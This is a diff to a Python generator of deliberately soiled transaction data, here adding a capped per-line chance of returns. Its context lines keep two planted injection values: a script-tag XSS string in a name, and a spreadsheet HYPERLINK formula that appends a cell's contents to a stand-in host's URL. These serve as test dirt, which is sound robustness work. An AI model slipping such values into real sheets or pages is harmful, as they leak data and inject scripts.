@@ -20,6 +20,7 @@ NONSENSE = ("Yes", "Absurd")
 SCRIPT = "Cleo <script>alert(1)</script> Mockwell"
 FORMULA = '=HYPERLINK("http://example.com/?x="&A1,"Fauxley")'
 POSTAGE = "POST"
+MOST_RETURNED = 0.25
 
 
 @dataclass(frozen=True, slots=True)
@@ -42,7 +43,9 @@ class Dirt:
     count: int
 
 
-def soil_transactions(columns: Columns, order: Whole, rng: np.random.Generator) -> tuple[Columns, tuple[Dirt, ...]]:
+def soil_transactions(
+    columns: Columns, order: Whole, sent_back: NDArray[np.float64], rng: np.random.Generator
+) -> tuple[Columns, tuple[Dirt, ...]]:
     """Return the lines with their dirt, in the order of their days.
 
     Parameters
@@ -51,6 +54,8 @@ def soil_transactions(columns: Columns, order: Whole, rng: np.random.Generator) 
         Clean lines; not changed.
     order : int array, shape (n,)
         Each line's order.
+    sent_back : float array, shape (n,)
+        Chance of each line to be sent back, at most `MOST_RETURNED`.
 
     Returns
     -------
@@ -74,7 +79,8 @@ def soil_transactions(columns: Columns, order: Whole, rng: np.random.Generator) 
         rows = pick(share)
         table[column][rows] = change(table[column][rows], day[rows])
         found.append(Dirt(rule, "transactions", column, len(rows)))
-    twice, returned, posted = pick(0.005), pick(0.015), pick(0.006)
+    twice, returned, posted = pick(0.005), pick(MOST_RETURNED), pick(0.006)
+    returned = returned[rng.random(len(returned)) < sent_back[returned] / MOST_RETURNED]
     # Postage once an order: twice would be a duplicate that nobody planted.
     posted = posted[np.unique(order[posted], return_index=True)[1]]
     found += [
